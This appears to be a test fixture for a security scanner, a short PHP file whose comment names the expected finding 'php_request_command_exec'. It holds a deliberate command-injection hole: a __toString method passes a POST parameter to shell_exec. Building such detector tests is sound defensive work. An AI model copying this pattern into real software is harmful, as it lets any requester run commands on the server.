<?php
// want: php_request_command_exec
class Item {
    public $v;
    function __toString() { return shell_exec($this->v); }
}
$i = new Item();
$i->v = $_POST['v'];
echo "$i";
